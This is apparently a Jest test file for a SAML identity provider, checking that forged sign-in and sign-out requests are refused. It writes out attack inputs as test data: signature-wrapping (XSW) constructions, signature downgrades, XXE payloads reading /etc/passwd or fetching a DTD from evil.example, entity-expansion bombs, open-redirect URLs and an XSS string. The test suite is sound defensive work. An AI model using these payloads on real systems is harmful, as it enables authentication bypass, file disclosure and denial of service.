import { createHmac, generateKeyPairSync } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { selfSigned } from '../../src/core/self-signed.ts';
import type { Tenant } from '../../src/tenants/tenant.ts';
import { signature, signed, withSignature } from '../support/fake-saml.ts';
import { at, nameIdOf, redirected, type Sent, sent, write } from '../support/saml-forge.ts';
import { SP_CERTIFICATE, SP_KEY } from '../support/saml-sp.ts';
import { type SamlStage, samlStage } from '../support/saml-stage.ts';
import { userAgent } from '../support/stage.ts';
import type { Page } from '../support/user-agent.ts';

/** Messages that are not what they seem (T111). Each is one page, one event, and nothing else. */

let stage: SamlStage;
let acme: Tenant;
let issuer: string;
beforeAll(async () => {
  stage = await samlStage();
  ({ acme } = stage);
  issuer = stage.sp.entityId;
});
afterAll(() => stage.stop());

const KINDS = ['AuthnRequest', 'LogoutRequest'] as const;
type Kind = (typeof KINDS)[number];
const pathOf = (kind: Kind) => (kind === 'AuthnRequest' ? '/saml/sso' : '/saml/slo');
const there = (kind: Kind) => acme.issuer + pathOf(kind);

/** In order, before it is signed. Signed it begins a sign-in, or ends with an answer. */
const good = (kind: Kind, bent: Partial<Sent> = {}): Sent =>
  sent(kind, issuer, there(kind), { inside: kind === 'LogoutRequest' ? nameIdOf('ada') : '', ...bent });
/** What an attacker would have it say. */
const evil = (kind: Kind, bent: Partial<Sent> = {}): Sent =>
  kind === 'AuthnRequest'
    ? good(kind, { attributes: 'AssertionConsumerServiceURL="https://hr.example/acs"', ...bent })
    : good(kind, { inside: nameIdOf('eve'), ...bent });

const signedBy = (message: Sent, key = SP_KEY, hash?: 'sha1' | 'sha256') =>
  signed(write(message), message.id, key, hash);
const post = (kind: Kind, xml: string | Buffer, more: Record<string, string> = {}) =>
  userAgent().post(there(kind), { SAMLRequest: Buffer.from(xml).toString('base64'), ...more });
const get = (kind: Kind, query: string) => userAgent().get(`${there(kind)}?${query}`);

const taken = (page: Page) => page.trail.length > 1 && page.status === 200;

/** One page, that goes nowhere, and one event. Resolves to the reason. */
async function refusal(act: () => Promise<Page>, status = 400): Promise<string> {
  let page!: Page;
  const events = await stage.eventsBy(acme, async () => {
    page = await act();
  });
  expect({ status: page.status, hops: page.trail.length }).toEqual({ status, hops: 1 });
  expect(page.body).toContain('role="alert"');
  expect(page.body).not.toContain('name="SAMLResponse"');
  expect(events).toMatchObject([{ type: 'saml.refused', outcome: 'failure', details: { at: expect.any(String) } }]);
  return String(events[0]!.details!.reason);
}

describe.each(KINDS)('%s', (kind) => {
  test('in order it is taken, by both bindings', async () => {
    expect(taken(await post(kind, signedBy(good(kind))))).toBe(true);
    expect(taken(await get(kind, redirected(write(good(kind)), { key: SP_KEY })))).toBe(true);
    expect(taken(await get(kind, redirected(write(good(kind)), { key: SP_KEY, relayState: 'a b+c%' })))).toBe(true);
  });

  describe('signature wrapping', () => {
    const bare = (message: Sent) => write(message);
    const sig = (message: Sent) => signature(write(message), message.id, SP_KEY);
    const within = (xml: string, inside: string) => xml.replace('</ds:Signature>', `${inside}</ds:Signature>`);
    const inFront = (xml: string, inside: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${inside}`);
    const behind = (xml: string, inside: string) =>
      xml.replace(new RegExp(`</samlp:${kind}>$`), `${inside}</samlp:${kind}>`);
    const object = (xml: string) => `<ds:Object>${xml}</ds:Object>`;
    const extensions = (xml: string) => `<samlp:Extensions>${xml}</samlp:Extensions>`;

    test.each<[string, (message: Sent) => string]>([
      [
        'XSW1 the signed one within an object of the signature of another',
        (m) => withSignature(bare(evil(kind)), within(sig(m), object(bare(m)))),
      ],
      [
        'XSW1 the same, the signed one with its own signature',
        (m) => withSignature(bare(evil(kind)), within(sig(m), object(signedBy(m)))),
      ],
      ['XSW2 the signed one beside the signature of another', (m) => inFront(bare(evil(kind)), sig(m) + bare(m))],
      ['XSW3 the signed one within another, in front', (m) => inFront(bare(evil(kind)), signedBy(m))],
      ['XSW4 the signed one within another, behind', (m) => behind(bare(evil(kind)), signedBy(m))],
      [
        'XSW5 another with the signature, by the same name, the signed one behind it',
        (m) => behind(withSignature(bare(evil(kind, { id: m.id })), sig(m)), bare(m)),
      ],
      [
        'XSW6 the same, the signed one within the signature',
        (m) => withSignature(bare(evil(kind, { id: m.id })), within(sig(m), bare(m))),
      ],
      ['XSW7 the signed one within extensions', (m) => behind(bare(evil(kind)), extensions(signedBy(m)))],
      [
        'XSW7 the signed one within extensions, its signature outside',
        (m) => behind(withSignature(bare(evil(kind)), sig(m)), extensions(bare(m))),
      ],
      [
        'XSW8 the signed one within an object, by the same name',
        (m) => withSignature(bare(evil(kind, { id: m.id })), within(sig(m), object(bare(m)))),
      ],
      ['the signed one as the second root', (m) => bare(evil(kind)) + signedBy(m)],
      ['another as the second root', (m) => signedBy(m) + bare(evil(kind))],
      ['two that are signed', (m) => behind(signedBy(evil(kind)), signedBy(m))],
      [
        'an ID in another spelling',
        (m) => behind(withSignature(bare(evil(kind)).replace(' ID=', ' Id='), sig(m)), extensions(bare(m))),
      ],
      ['two IDs', (m) => withSignature(bare(evil(kind, { id: m.id })).replace(' ID=', ` id="_x" ID=`), sig(m))],
      [
        'an ID of another namespace',
        (m) =>
          behind(
            withSignature(bare(evil(kind)).replace(' ID=', ` xmlns:x="urn:x" x:ID="${m.id}" ID=`), sig(m)),
            extensions(bare(m)),
          ),
      ],
      [
        'something else that is signed within',
        (m) => behind(bare(evil(kind)), signed(write({ ...m, name: 'Response' }), m.id, SP_KEY)),
      ],
      ['the signature within the issuer', (m) => bare(m).replace('</saml:Issuer>', `${sig(m)}</saml:Issuer>`)],
      ['the signature within extensions', (m) => behind(bare(m), extensions(sig(m)))],
      [
        'the signature of another namespace',
        (m) => withSignature(bare(m), sig(m).replaceAll('2000/09/xmldsig#"', '2000/09/xmldsig"')),
      ],
    ])('%s', async (_name, wrap) => {
      await refusal(() => post(kind, wrap(good(kind))));
    });
  });

  describe('a signature', () => {
    const stranger = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
    const theirs = selfSigned(stranger, { name: 'sp', from: 0, until: Date.now() + 1e9 }).replaceAll(
      /-----.*-----|\s/g,
      '',
    );
    const keyInfo = `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>${theirs}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`;
    const bend = (pattern: string | RegExp, by: string) => (m: Sent) => signedBy(m).replace(pattern, by);
    const EXC = 'http://www.w3.org/2001/10/xml-exc-c14n#';
    const hmac = createHmac('sha1', SP_CERTIFICATE).update('x').digest('base64');

    test.each<[string, (message: Sent) => string]>([
      ['none', write],
      ['by another key', (m) => signedBy(m, stranger)],
      [
        'by another key, which it brings along',
        (m) => signedBy(m, stranger).replace('</ds:Signature>', `${keyInfo}</ds:Signature>`),
      ],
      ['with SHA-1', (m) => signedBy(m, SP_KEY, 'sha1')],
      ['with SHA-1 of the message only', bend('2001/04/xmlenc#sha256', '2000/09/xmldsig#sha1')],
      [
        'with a shared secret',
        (m) =>
          bend(
            /<ds:SignatureValue>[^<]*/,
            `<ds:SignatureValue>${hmac}`,
          )(m).replace('2001/04/xmldsig-more#rsa-sha256', '2000/09/xmldsig#hmac-sha1'),
      ],
      ['by an algorithm for another kind of key', bend('#rsa-sha256', '#ecdsa-sha256')],
      ['of nothing', bend(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>')],
      ['without a value', bend(/<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/, '')],
      ['without a reference', bend(/<ds:Reference.*<\/ds:Reference>/, '')],
      ['with two references', (m) => signedBy(m).replace(/<ds:Reference.*<\/ds:Reference>/, (text) => text + text)],
      ['of the whole document, by no name', bend(/URI="[^"]*"/, 'URI=""')],
      ['of another name', bend(/URI="[^"]*"/, 'URI="#_x"')],
      ['by an expression', bend(/URI="[^"]*"/, 'URI="#xpointer(/)"')],
      [
        'with a transform that leaves something out',
        bend(`Transform Algorithm="${EXC}"`, 'Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"'),
      ],
      [
        'that keeps comments',
        bend(`CanonicalizationMethod Algorithm="${EXC}"`, `CanonicalizationMethod Algorithm="${EXC}WithComments"`),
      ],
      ['twice', (m) => signedBy(m).replace(/<ds:Signature .*<\/ds:Signature>/, (text) => text + text)],
      ['of another time', bend(/IssueInstant="[^"]*"/, `IssueInstant="${at(1)}"`)],
      ['of less', (m) => signedBy(m).replace('</saml:Issuer>', '</saml:Issuer><samlp:Extensions></samlp:Extensions>')],
    ])('%s', async (_name, bent) => {
      const message = good(kind);
      expect(bent(message)).not.toBe(signedBy(message));
      await refusal(() => post(kind, bent(message)));
    });

    test('that no certificate is known for', async () => {
      const bare = stage.sp.client({ entity_id: 'urn:bare', certificates: [], slo: undefined }, {});
      await stage.client(acme, { ...bare, client_id: 'bare' });
      const message = { ...good(kind), issuer: 'urn:bare' };
      expect(await refusal(() => post(kind, signedBy(message)))).toContain('no certificate');
      const unsigned = await post(kind, write({ ...good(kind), issuer: 'urn:bare' }));
      // A sign-out is always signed.
      expect(taken(unsigned)).toBe(kind === 'AuthnRequest');
    });
  });

  describe('XML that is more than it seems', () => {
    const BOMB = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'
      .split('')
      .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
      .join('')}]>`;
    const inIssuer = (text: string) => (m: Sent) => signedBy(m).replace(issuer, text);

    test.each<[string, (message: Sent) => string | Buffer]>([
      ['XXE', (m) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${inIssuer('&e;')(m)}`],
      ['XXE to a server', (m) => `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>${signedBy(m)}`],
      ['an external document type', (m) => `<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">${signedBy(m)}`],
      ['a billion laughs', (m) => BOMB + inIssuer('&j;')(m)],
      ['an entity that is not declared', inIssuer('&evil;')],
      ['a comment within the issuer', inIssuer(`${'https://hr.example/meta'}<!-- -->data`)],
      ['a comment within a longer issuer', inIssuer('https://hr.example/metadata<!---->.evil.example')],
      ['CDATA', inIssuer('<![CDATA[https://hr.example/metadata]]>')],
      ['a processing instruction', inIssuer('https://hr.example/<?x?>metadata')],
      ['an inclusion', inIssuer('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')],
      ['another encoding', (m) => Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${signedBy(m)}`)],
      ['bytes that are no text', (m) => Buffer.concat([Buffer.from(signedBy(m)), Buffer.from([0xff])])],
      ['broken', (m) => signedBy(m).slice(0, -10)],
      ['text behind it', (m) => `${signedBy(m)}x`],
      ['an attribute twice', (m) => signedBy(m).replace(' ID=', ' ID="_y" ID=')],
      [
        'nested without end',
        (m) => signedBy(m).replace('</saml:Issuer>', `</saml:Issuer>${'<a>'.repeat(3000)}${'</a>'.repeat(3000)}`),
      ],
      ['no XML', () => 'x'],
      ['nothing', () => ''],
    ])('%s', async (_name, bend) => {
      await refusal(() => post(kind, bend(good(kind))));
    });

    test('with a declaration, and white space, it is fine', async () => {
      expect(taken(await post(kind, `<?xml version="1.0" encoding="UTF-8"?>\n${signedBy(good(kind))}\n`))).toBe(true);
    });

    test('more than a form may have', async () => {
      await refusal(() => post(kind, signedBy(good(kind)) + ' '.repeat(60_000)), 413);
    });
  });

  describe('by redirect', () => {
    const query = (bent: Parameters<typeof redirected>[1] = {}, message = good(kind)) =>
      redirected(write(message), { key: SP_KEY, relayState: 'here', ...bent });
    const sha1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1';

    test.each<[string, () => string]>([
      ['without a signature', () => query({ key: undefined })],
      ['by another key', () => query({ key: generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey })],
      ['with SHA-1', () => query({ algorithm: sha1, hash: 'sha1' })],
      ['with an algorithm that is none', () => query({ algorithm: 'none' })],
      ['with another relay state', () => query().replace('RelayState=here', 'RelayState=there')],
      ['without the relay state that was signed', () => query().replace('&RelayState=here', '')],
      ['with a relay state that was not', () => `${query({ relayState: undefined })}&RelayState=here`],
      ['with an algorithm that was not', () => query().replace('rsa-sha256', 'rsa-sha512')],
      ['with an algorithm alone', () => query().replace(/&Signature=.*/, '')],
      ['with a signature alone', () => query().replace(/&SigAlg=[^&]*/, '')],
      ['with a parameter twice', () => `${query()}&SAMLRequest=x`],
      ['with a parameter twice, in another spelling', () => `${query()}&%53AMLRequest=x`],
      ['as request and answer', () => `${query()}&SAMLResponse=x`],
      ['with another encoding', () => `${query()}&SAMLEncoding=urn:x`],
      ['with a broken spelling', () => `${query()}&x=%E0%A4%A`.replace('RelayState=here', 'RelayState=%E0%A4%A')],
      ['with a signature within', () => redirected(signedBy(good(kind)), { key: SP_KEY })],
      ['with a signature within alone', () => redirected(signedBy(good(kind)))],
      ['that does not inflate', () => redirected(Buffer.from('xxxx'), { key: SP_KEY })],
      [
        'that inflates to megabytes',
        () => redirected(deflateRawSync(Buffer.alloc(5_000_000, ' '), { level: 9 }), { key: SP_KEY }),
      ],
      ['with a relay state that is too long', () => query({ relayState: 'x'.repeat(1025) })],
      ['with nothing', () => ''],
      ['with a query that is none', () => '&&&=&'],
    ])('%s', async (_name, write) => {
      await refusal(() => get(kind, write()));
    });

    test('and longer than any address may be', async () => {
      const query = redirected(write(good(kind)), { key: SP_KEY, relayState: 'x'.repeat(9000) });
      // The entry refuses it, as at any address.
      expect(await stage.eventsBy(acme, async () => expect((await get(kind, query)).status).toBe(414))).toEqual([]);
    });
  });

  describe('what is signed, and not for this', () => {
    test.each<[string, Partial<Sent>]>([
      ['for another address', { destination: 'https://other.example/sso' }],
      ['for another tenant', { destination: 'http://localhost/t/globex/saml/sso' }],
      ['for the other address of ours', { destination: 'there' }],
      ['for nobody', { destination: undefined }],
      ['of long ago', { issueInstant: at(-361) }],
      ['of a time to come', { issueInstant: at(90) }],
      ['of no time', { issueInstant: 'yesterday' }],
      ['of another version', { version: '1.1' }],
      ['with an ID that is none', { id: '1x' }],
      ['of an unknown service provider', { issuer: 'https://evil.example' }],
      ['of nobody', { issuer: '' }],
      ['with a name that is another’s', { name: 'ArtifactResolve' }],
      [
        'with a second issuer',
        { inside: '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">x</saml:Issuer>' },
      ],
    ])('%s', async (_name, bent) => {
      const other = kind === 'AuthnRequest' ? there('LogoutRequest') : there('AuthnRequest');
      const message = good(kind, { ...bent, ...(bent.destination === 'there' && { destination: other }) });
      await refusal(() => post(kind, signedBy(message)));
    });

    test('that came before', async () => {
      const xml = signedBy(good(kind));
      expect(taken(await post(kind, xml))).toBe(true);
      expect(await refusal(() => post(kind, xml))).toContain('already');
      const query = redirected(write(good(kind)), { key: SP_KEY });
      const pages = await Promise.all(Array.from({ length: 10 }, () => get(kind, query)));
      expect(pages.filter(taken)).toHaveLength(1);
    });

    test('at another tenant, whose service provider it is not', async () => {
      const at = stage.globex.issuer + pathOf(kind);
      const refusedThere = async (detail: string) => {
        const SAMLRequest = Buffer.from(signedBy(good(kind, { destination: at }))).toString('base64');
        const events = await stage.eventsBy(stage.globex, async () => {
          const page = await userAgent().post(at, { SAMLRequest });
          expect(page).toMatchObject({ status: 400, trail: { length: 1 } });
        });
        const details = { reason: expect.stringContaining(detail) };
        expect(events).toMatchObject([{ type: 'saml.refused', details }]);
      };
      await refusedThere('there is no service provider');
      // The same name may be another's there, by another key.
      const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
      const certificates = [selfSigned(privateKey, { name: 'x', from: 0, until: 1 })];
      await stage.client(stage.globex, stage.sp.client({ certificates }));
      await refusedThere('the signature is not good');
      await stage.services.clients.remove(stage.globex, 'hr');
    });

    test('by HEAD nothing is used up', async () => {
      const query = redirected(write(good(kind)), { key: SP_KEY });
      expect((await fetch(`${there(kind)}?${query}`, { method: 'HEAD', redirect: 'manual' })).status).toBe(405);
      expect(taken(await get(kind, query))).toBe(true);
    });

    test('as what is no form', async () => {
      const json = { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } };
      const events = await stage.eventsBy(acme, async () => {
        expect((await fetch(there(kind), json)).status).toBe(415);
      });
      expect(events).toMatchObject([{ type: 'saml.refused' }]);
    });
  });
});

describe('an address that is not registered', () => {
  test.each([
    'https://evil.example/acs',
    'https://hr.example/acs/',
    'https://hr.example/acs?x',
    'https://hr.example:443/acs',
    'https://HR.example/acs',
    'https://hr.example/%61cs',
    'https://hr.example/x/../acs',
    'https://hr.example.evil.example/acs',
    'http://hr.example/acs',
    'javascript:alert(1)',
    '',
  ])('%s', async (uri) => {
    const message = good('AuthnRequest', { attributes: `AssertionConsumerServiceURL="${uri}"` });
    expect(await refusal(() => post('AuthnRequest', signedBy(message)))).toContain('not registered');
  });

  test.each([
    ['an index', 'AssertionConsumerServiceIndex="7"'],
    ['an index that is none', 'AssertionConsumerServiceIndex="x"'],
    ['both', 'AssertionConsumerServiceIndex="0" AssertionConsumerServiceURL="https://hr.example/acs"'],
    ['another binding', 'ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"'],
  ])('%s', async (_name, attributes) => {
    // In the order of the alphabet, so that it is canonical.
    const isLate = attributes.startsWith('Protocol');
    const message = good('AuthnRequest', { attributes: isLate ? '' : attributes });
    const xml = isLate ? write(message).replace(' Version=', ` ${attributes} Version=`) : write(message);
    await refusal(() => post('AuthnRequest', signed(xml, message.id, SP_KEY)));
  });
});

describe('a part that is wrong', () => {
  test.each<[string, Kind, string]>([
    [
      'a policy for others',
      'AuthnRequest',
      '<samlp:NameIDPolicy SPNameQualifier="https://evil.example"></samlp:NameIDPolicy>',
    ],
    [
      'two policies',
      'AuthnRequest',
      '<samlp:NameIDPolicy></samlp:NameIDPolicy><samlp:NameIDPolicy></samlp:NameIDPolicy>',
    ],
    [
      'an unknown comparison',
      'AuthnRequest',
      '<samlp:RequestedAuthnContext Comparison="x"></samlp:RequestedAuthnContext>',
    ],
    [
      'a subject without a name',
      'AuthnRequest',
      '<saml:Subject xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"></saml:Subject>',
    ],
    ['no name', 'LogoutRequest', ''],
    ['an empty name', 'LogoutRequest', nameIdOf('')],
    ['two names', 'LogoutRequest', nameIdOf('ada') + nameIdOf('eve')],
    [
      'an encrypted name',
      'LogoutRequest',
      '<saml:EncryptedID xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"></saml:EncryptedID>',
    ],
  ])('%s', async (_name, kind, inside) => {
    await refusal(() => post(kind, signedBy(good(kind, { inside }))));
  });

  test('a request that is over', async () => {
    const message = good('LogoutRequest');
    const xml = write(message).replace(' Version=', ` NotOnOrAfter="${at(-1)}" Version=`);
    expect(await refusal(() => post('LogoutRequest', signed(xml, message.id, SP_KEY)))).toContain('over');
  });
});

test('what an attacker writes into a page stays text', async () => {
  const relayState = '"><script>alert(1)</script><x y="';
  const query = redirected(
    write(good('AuthnRequest', { inside: '<samlp:NameIDPolicy Format="urn:x"></samlp:NameIDPolicy>' })),
    { key: SP_KEY, relayState },
  );
  const page = await get('AuthnRequest', query);
  expect(page.body).toContain(
    'name="RelayState" value="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;x y=&quot;"',
  );
  expect(page.body).not.toContain('<script>');
  const named = await post(
    'AuthnRequest',
    write(good('AuthnRequest', { issuer: '&lt;script&gt;alert(1)&lt;/script&gt;' })),
  );
  expect(named.body).not.toContain('<script>alert');
  expect(named.body).toContain('&lt;script&gt;');
});
